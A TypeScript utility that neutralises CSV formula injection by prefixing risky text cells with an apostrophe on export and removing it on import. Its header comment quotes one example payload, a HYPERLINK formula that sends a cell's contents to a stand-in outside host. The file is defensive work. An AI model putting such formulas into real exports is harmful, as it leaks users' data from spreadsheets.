/**
 * CSV formula injection (OWASP "CSV Injection"): a spreadsheet that opens a CSV file runs a text cell that
 * starts with `=` `+` `-` `@` (or TAB/CR before one) as a formula, e.g. a contact named
 * `=HYPERLINK("http://x/?"&A1)`. Every CSV export writes such text with a leading `'`, which makes the
 * spreadsheet show it as text. Numbers written as numbers (a line no., an amount of -12.5) are not text and
 * stay as they are. XLSX exports need none of this: they write cells as typed strings.
 *
 * Values that already start with `'` before one of those characters get one more `'`, so that the import
 * can take exactly one away again and an export re-imports unchanged.
 */
const NEEDS_QUOTE = /^'*[=+\-@\t\r]/
const QUOTED = /^'+[=+\-@\t\r]/

/** The text as a CSV export writes it: with a leading `'` when a spreadsheet would take it for a formula. */
export function neutraliseFormula(text: string): string {
  return NEEDS_QUOTE.test(text) ? `'${text}` : text
}

/** The reverse, for the CSV import: a cell our export neutralised gets its value back. */
export function unneutraliseFormula(text: string): string {
  return QUOTED.test(text) ? text.slice(1) : text
}
